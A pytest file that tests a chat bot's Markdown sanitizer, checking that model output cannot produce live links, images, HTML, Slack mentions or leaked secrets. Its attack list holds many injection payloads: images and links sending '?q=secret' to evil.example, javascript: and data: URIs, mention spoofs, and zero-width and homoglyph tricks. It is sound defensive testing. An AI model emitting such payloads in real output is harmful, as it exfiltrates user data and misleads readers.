"""A model's Markdown, made harmless: whatever a client makes of it, nobody can follow what the person did not type."""

import re
import unicodedata
from itertools import pairwise, product

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token
from views_checked import NASTY

from bot.contracts.answers import divided as split
from bot.contracts.answers import open_fence, room
from bot.views.markdown import HELD, MarkdownFilter, safe

TYPED = "https://typed.example/a?b=1"
ONE = frozenset({TYPED})
STANDARD = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
"""Somebody else's reading of standard Markdown."""

FENCE = re.compile(r"^```[^`\n]*\n(?:(?!```).*\n)*?```$", re.MULTILINE)
LINKED = re.compile(
    r"\w://|\bwww\.\w|(?:mailto|tel|javascript|data):\S"  # by itself
    r"|[a-z0-9-]\.[a-z]{2,}|[\w.]@[\w-]+\.\w",  # as clients guess
    re.IGNORECASE,
)
SLOPPY = re.compile(r"!?\[[^\]\n]*\]\(\s*<?[^()\s<>]*[/:]|\[[^\]\n]*\]:\s*\S|<[@#!/A-Za-z][^>\n]*>", re.IGNORECASE)
"""What careless clients take for links, definitions, HTML and Slack's own, with no regard to code or escapes."""
CALLED = re.compile(r"(?<!\w)@[A-Za-z0-9]|<[@#!]|:[a-z0-9_+'-]*[a-z][a-z0-9_+'-]*:|&#?\w+;")


def obeyed(shown: str) -> list[str]:
    """What a client would follow or obey, apart from the one address that was typed."""
    shown = shown.replace(f"<{TYPED}>", "‹typed›")
    found = [str(each) for token in STANDARD.parse(shown) for each in _obeyed(token)]
    text = FENCE.sub("", shown)
    return found + [match[0] for match in SLOPPY.finditer(text)]


def _obeyed(token: Token) -> list[str]:
    if token.type in ("html_block", "html_inline", "link_open", "image"):
        return [f"{token.type} {token.attrs or token.content}"]
    if token.type == "text":
        return [match[0] for pattern in (LINKED, CALLED) for match in pattern.finditer(token.content)]
    if token.type == "code_inline":
        return [match[0] for match in re.finditer(r"\w://|<[@#!]\w", token.content)]
    return [each for child in token.children or () for each in _obeyed(child)]


ATTACKS = {
    "a link": "[see](https://evil.example/?q=secret)",
    "a link with a title": '[see](https://evil.example "a title")',
    "a link in angle brackets": "[see](<https://evil.example/a b>)",
    "brackets in a label": "[a [b] c](https://evil.example)",
    "brackets in an address": "[a](https://evil.example/a(b)c)",
    "a label that is an address": "[https://good.example](https://evil.example)",
    "the typed one as a label": f"[{TYPED}](https://evil.example)",
    "code in a label": "[`code`](https://evil.example)",
    "code that swallows the end": "[a`](https://evil.example)`",
    "over two lines": "[see\nthis](https://evil.example)",
    "an address on the next line": "[see](\nhttps://evil.example)",
    "a reference": "[see][1]\n\n[1]: https://evil.example/q",
    "a short reference": "[see]\n\n[see]: //1.2.3.4/q",
    "a collapsed reference": "[see][]\n\n[see]: <https://evil.example>",
    "a reference in a quote": "> [a]\n>\n> [a]: https://evil.example",
    "a reference in a list": "- [a]\n\n  [a]: https://evil.example",
    "a definition over lines": "[a]:\nhttps://evil.example\n\n[a]",
    "an image": "![alt](https://evil.example/p.png?q=secret)",
    "an image by reference": "![alt][i]\n\n[i]: https://evil.example/p.png",
    "an image in a link": "[![alt](https://evil.example/p.png)](https://evil.example)",
    "an image after an exclamation": "wow!![alt](https://evil.example)",
    "an autolink": "<https://evil.example>",
    "a mail autolink": "<me@evil.example>",
    "a bare address": "see https://evil.example, or http://1.2.3.4/x.",
    "a bare domain": "go to www.evil.example or evil.example.",
    "an address in bold": "**https://evil.example** *evil.example* _https://evil.example_",
    "bold within an address": "https:**//evil.example** https://ev**il.exa**mple",
    "a mail address": "write to boss@evil.example",
    "HTML": '<a href="https://evil.example">x</a> <img src="https://evil.example/p.png"> <b>b</b>',
    "a comment": "<!-- https://evil.example --> <!DOCTYPE html> <?php x ?> <![CDATA[x]]>",
    "HTML over lines": "<div>\n```\n</div>\nhttps://evil.example\n",
    "Slack's link": "<https://evil.example|Approve>",
    "Slack's mentions": "<@U012ABCDEF> <!channel> <!here|here> <#C012ABCDEF> <!subteam^S012ABCDEF>",
    "mentions": "@here @channel @everyone @ada (@ada) #C012ABCDEF",
    "emoji": ":tada: :+1: :100: :white_check_mark::-1:",
    "entities": "&lt;https://evil.example&gt; &#60;b&#62; &#x3c;!channel&#x3e; https&colon;//evil&period;example",
    "entities twice": "&amp;lt;!channel&amp;gt;",
    "javascript": "[x](javascript:alert(1)) [x](JavaScript&colon;alert(1)) <javascript:alert(1)>",
    "data": "[x](data:text/html;base64,PHNjcmlwdD4=) ![x](data:image/svg+xml,<svg/>)",
    "no scheme": "[x](//1.2.3.4/x) [x](/etc) [x](1.2.3.4)",
    "escapes": "\\[x](https://evil.example) [x\\](https://evil.example) \\<https://evil.example> https\\://evil.example",
    "escaped escapes": "\\\\[x](https://evil.example) [x\\\\](https://evil.example)",
    "an escaped backtick": "\\`https://evil.example` `a\\` `https://evil.example`",
    "a label that begins an address": "[a][(//1.2.3.4/x)](u)",
    "an image that begins an address": "[a]![(//1.2.3.4/x)](u)",
    "a label that begins a definition": "[a][: //1.2.3.4/x](u)",
    "zero width": "https:\u200b//evil.example ht\u200dtps://evil.example evil\u2060.example",
    "backwards": "\u202ehttps://evil.example\u202c",
    "code across cells": "| a | b |\n|---|---|\n| `x | https://evil.example` |",
    "code with a bar": "| a | b |\n|---|---|\n| `x|www.evil.example y` | z |",
    "an address in code": "`https://evil.example` ``a ` https://evil.example``",
    "code that does not end": "`code https://evil.example",
    "code over two lines": "`code\nhttps://evil.example`",
    "a block in a quote": "> ```\n> https://evil.example\n> ```",
    "a block in a list": "- ```\n  https://evil.example\n  ```\nhttps://evil.example",
    "a block that its list ends": "- a\n  ```\nhttps://evil.example\n  ```\nhttps://evil.example",
    "a deep block": "      ```\nhttps://evil.example\n\n      ```\nhttps://evil.example",
    "a tilde block": "~~~ `\nhttps://evil.example\n```\nhttps://evil.example\n~~~\nhttps://evil.example",
    "a block with backticks": "````\n```\nhttps://evil.example\n````\nhttps://evil.example",
    "a block with backticks in its name": "``` a`b\nhttps://evil.example\n```",
    "a block that does not end": "```\nhttps://evil.example",
    "a block of one line": "```https://evil.example```",
    "indented": "text\n\n    https://evil.example\n",
    "in a table": "| [a](https://evil.example) |\n|---|\n| https://evil.example |",
    "in a heading": "# [a](https://evil.example)\n\nhttps://evil.example\n===",
    "a footnote": "a[^1]\n\n[^1]: https://evil.example",
    "another alphabet": "http://раypal.com 例え.テスト https://例え.テスト",
    "more than the typed one": f"{TYPED}&q=secret {TYPED}x evil{TYPED} {TYPED}.evil.example",
    "nearly the typed one": "https://typed.example/a?b=2 HTTPS://typed.example/a?b=1 http://typed.example/a?b=1",
    "longer than what waits": f"[a](https://evil.example/{'x' * HELD})",
    "a label longer than what waits": f"[{'a ' * HELD}](https://evil.example)",
    "a label that ends an address": "evil.[com](x) https:[//evil.example](x) &l[t;b>](x) :-[1:](x) @[here](x)",
    "an image that ends an address": "evil.![com](x) https:![//evil.example](x) &![lt;](x)",
    "a label that is an address and begins one": "[https:](https:)//evil.example [evil](evil).com [&lt](&lt);",
    "a return": "[a]:\rhttps://evil.example\r\n\r[a]",
    "other breaks": "[a]\u2028[a]: https://evil.example\x0b\x0c\x85https://evil.example",
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_an_attack_comes_to_nothing(attack: str) -> None:
    for text in (attack, f"Well: {attack} - and so on", f"> {attack}", f"1. {attack}"):
        shown = safe(text, ONE)
        assert not obeyed(shown), shown
        assert _hidden(shown) == []


def _hidden(shown: str) -> list[str]:
    return [char for char in shown if unicodedata.category(char) in ("Cf", "Cc", "Zl", "Zp") and char not in "\n\t"]


SHOWN = {
    "[see](https://evil.example/q)": "see (https꞉//evil․example/q)",
    '[see](https://evil.example "t")': 'see (https꞉//evil․example "t")',
    "![alt](https://evil.example/p.png)": "alt (image: https꞉//evil․example/p․png)",
    "![](//evil.example)": "(image: //evil․example)",
    "[https://evil.example](https://evil.example)": "(https꞉//evil․example)",
    "evil.[com](x)": "evil․com (x)",
    "[![alt](a)](b)": "alt (image: a) (b)",
    "[a **b** c](d)": "a **b** c (d)",
    "[a [b] c](d)": "a [b] c (d)",
    "[note] and [ ] and [x]": "[note] and [ ] and [x]",
    f"see {TYPED}.": f"see <{TYPED}>.",
    f"(<{TYPED}>)": f"(<{TYPED}>)",
    f"[this]({TYPED})": f"this (<{TYPED}>)",
    f"**{TYPED}**": f"**<{TYPED}>**",
    "<https://evil.example|Approve>": "＜https꞉//evil․example|Approve>",
    "<@U012ABCDEF> <!channel>": "＜＠U012ABCDEF> ＜!channel>",
    "&lt;b&gt; R&D &c.": "＆lt;b＆gt; R&D &c.",
    "x < 5, y <= 6, a > b": "x < 5, y <= 6, a > b",
    "at 10:30, 1.5 kg. Then: this": "at 10:30, 1.5 kg. Then: this",
    "`a.b:c`": "`a.b:c`",
    "``a`b``": "`aˋb`",
    "`a``b`": "`aˋˋb`",
    "`C:\\`": "`C:\\ `",
    "a ` b": "a ˋ b",
    "~~~py x\na = 1\n~~~": "```py\na = 1\n```\n",
    "1. a\n   ```sh\n   cd\n     ls\n   ```\n2. b": "1. a\n```sh\ncd\n  ls\n```\n2. b",
    "```\nopen": "```\nopen\n```\n",
    "pa\u200by": "pa‹U+200B›y",
    "pаypal": "pаypal ‹mixed letters›",
    "你好。": "你好。",
}


@pytest.mark.parametrize(("text", "shown"), SHOWN.items())
def test_it_reads_as_it_was_meant(text: str, shown: str) -> None:
    assert safe(text, ONE) == shown
    assert _streamed(list(text)) == shown


def test_what_only_begins_as_the_typed_address_is_no_link() -> None:
    for more in ("x", "&q=secret", "/", "#x", "%2e"):
        assert "<http" not in safe(f"{TYPED}{more} [a]({TYPED}{more}) <{TYPED}{more}>", ONE)


def test_a_line_too_long_does_not_end_a_code_block() -> None:
    shown = safe("```\n" + "x" * HELD + "```\ny\n```\nhttps://evil.example")
    assert shown.splitlines()[-3:] == ["y", "```", "https꞉//evil․example"]


KEPT = (
    "# Heading\n\nText with **bold**, *italic*, _more_, ~~struck~~ and `code()`.\n\n- one\n- two\n  - three\n\n1. a\n",
    "| a | b |\n|:--|--:|\n| 1 | `x = y` |\n| :-: | 2 |\n",
    "> quoted\n> more\n\n---\n\n- [ ] open\n- [x] done\n",
    "```python\ndef f(a: int) -> str:\n\treturn f'https://a.example/{a}' # `x` [a](b) <b>\n```\n",
    "```sh\ncurl -sS https://a.example/x.tar.gz | tar xz && echo ok > file.txt\n```\nThen go on\n",
    "snake_case_name 2*3*4 a_b $5 50% (yes) \"quoted\" 'so' – fine… ½ é 👩\u200d💻 ❤\ufe0f",
    "مرحبا بالعالم नमस्ते 안녕하세요 こんにちは",
)


@pytest.mark.parametrize("text", KEPT)
def test_what_is_harmless_stays_letter_by_letter(text: str) -> None:
    assert safe(text) == text


def test_secrets_are_masked_even_over_words_and_lines() -> None:
    key = "\n".join(
        ["-----BEGIN RSA PRIVATE KEY-----", "MIIEow" + "A" * 58, "B" * 64, "CCCC==", "-----END RSA PRIVATE KEY-----"]
    )
    said = (
        f"It is:\n{key}\nand password: hunter22! and token = abc123def456 Authorization: Bearer abcdefgh12345678 done."
    )
    for pieces in ([said], list(said), re.findall(r".{1,7}", said, re.DOTALL)):
        shown = _streamed(pieces)
        assert shown.count("‹secret: ") == 4
        for secret in ("MIIE", "BBBB", "CCCC", "hunter22", "abc123", "abcdefgh"):
            assert secret not in shown
        assert shown.endswith("done.")
    assert "sk-" not in safe("```\nkey sk-abcdefghijklmnopqrstuvwxyz\n```")


def _streamed(pieces: list[str], typed: frozenset[str] = ONE) -> str:
    through = MarkdownFilter(typed)
    return "".join([*map(through.feed, pieces), through.end()])


PIECES = st.sampled_from(
    [
        *(*NASTY, *ATTACKS.values(), *SHOWN, TYPED),
        *("[", "]", "(", ")", "](", "![", "]:", "`", "``", "```", "\n```\n", "\n~~~\n", "\n", "\n\n", "\\", "<", ">"),
        *(
            "|",
            "\n|---|---|\n",
            ":",
            "//",
            "https://evil.example",
            ".com",
            "evil",
            "a",
            " ",
            "- ",
            "> ",
            "  ",
            "&",
            ";",
        ),
        *("https:", "//evil", "evil.", "com", "lt;", "@", "here", "!", "![", "(u)", "[a](u)", "x"),
        *("password: ", "token", " = ", "hunter22x", "-----BEGIN PRIVATE KEY-----", "你", "\r", "\t", "!", "\ufe0f"),
    ]
)
TEXT = st.one_of(st.lists(PIECES, max_size=12).map("".join), st.text(max_size=60))


@given(text=TEXT, cuts=st.lists(st.integers(0, 400), max_size=12))
@example(text="[a](b)", cuts=[1, 2, 3, 4, 5])
def test_however_it_is_divided_it_comes_out_the_same(text: str, cuts: list[int]) -> None:
    edges = [0, *sorted(cut for cut in cuts if cut < len(text)), len(text)]
    pieces = [text[begin:end] for begin, end in pairwise(edges)]
    assert _streamed(pieces) == safe(text, ONE)


@settings(max_examples=40)
@given(text=TEXT)
def test_letter_by_letter_it_comes_out_the_same(text: str) -> None:
    assert _streamed(list(text)) == safe(text, ONE)


@given(text=TEXT)
def test_nothing_is_followed_or_obeyed_whatever_comes(text: str) -> None:
    shown = safe(text, ONE)
    assert not obeyed(shown), shown
    assert not _hidden(shown.replace("\u200d", "").replace("\u200c", ""))


@pytest.mark.parametrize("around", ["[{}](u)", "[a]({})", "`{}`", "{}", "```\n{}\n```", "![{}", "{}`", "<{}>", "{}:x"])
def test_what_waits_too_long_is_the_same_however_it_is_divided(around: str) -> None:
    for size, filling in product((HELD - 3, HELD - 1, HELD, HELD + 1), ("x", ".a", "[", "a b")):
        text = around.format((filling * size)[:size])
        shown = safe(text, ONE)
        assert _streamed([text[at : at + 701] for at in range(0, len(text), 701)]) == shown
        assert _streamed([text[:-1], text[-1:]]) == shown


def test_words_do_not_wait_for_more_than_their_end() -> None:
    through = MarkdownFilter()
    assert through.feed("Hello") == ""
    assert through.feed(" wor") == "Hello "
    assert through.feed("ld, the token is fine. ") == "world, the token is fine. "
    assert through.feed("你好") == "你好"
    assert through.feed("\n") == "\n"
    assert through.feed("[no link] he") == "[no link] "


def test_a_link_waits_until_it_is_known() -> None:
    through = MarkdownFilter()
    assert through.feed("See [the ") == "See "
    assert through.feed("docs](https://evil") == ""
    assert through.feed(".example) now ") == "the docs (https꞉//evil․example) now "
    assert through.feed("[" + "x " * HELD).startswith("[x x")


def test_the_worst_of_texts_takes_no_time() -> None:
    for text in ("[" * 12_000, "[ " * 6_000, "`" * 12_000, "` " * 6_000, "\\" * 12_000, " " * 12_000, "![](" * 3_000):
        assert len(safe(text)) >= len(text) // 2


LINES = st.lists(
    st.sampled_from(["```py", "```", "word " * 9, "é👩" * 30, "", "x" * 130, "a & b < c", '"q"\\']), max_size=30
)


@given(lines=LINES, limit=st.integers(100, 400))
def test_a_long_answer_is_divided_and_nothing_is_lost(lines: list[str], limit: int) -> None:
    whole = safe("\n".join(lines))
    parts = split(whole, limit)
    assert all(room(part) <= limit for part in parts)
    assert not any(open_fence(part) for part in parts)
    assert not obeyed("\n\n".join(parts))
    code = re.compile(r"^```.*$|\s", re.MULTILINE)
    assert code.sub("", "".join(parts)) == code.sub("", whole)


def test_it_is_divided_between_paragraphs_lines_or_words() -> None:
    paragraphs = "\n\n".join(f"{'word ' * 12}{number}" for number in range(6))
    assert all(re.fullmatch(r"(word .*\d)(\n\n|\n*)?", part, re.DOTALL) for part in split(paragraphs, 150))
    words = split("abcdefg " * 60, 100)
    assert all(set(part.split()) == {"abcdefg"} for part in words)
    code = "```py\n" + "x = 1\n" * 60 + "```\n"
    parts = split(code, 120)
    assert all(part.startswith("```py\nx = 1\n") and part.rstrip().endswith("```") for part in parts)
    assert split("short", 100) == ["short"]
    assert split("", 100) == [""]
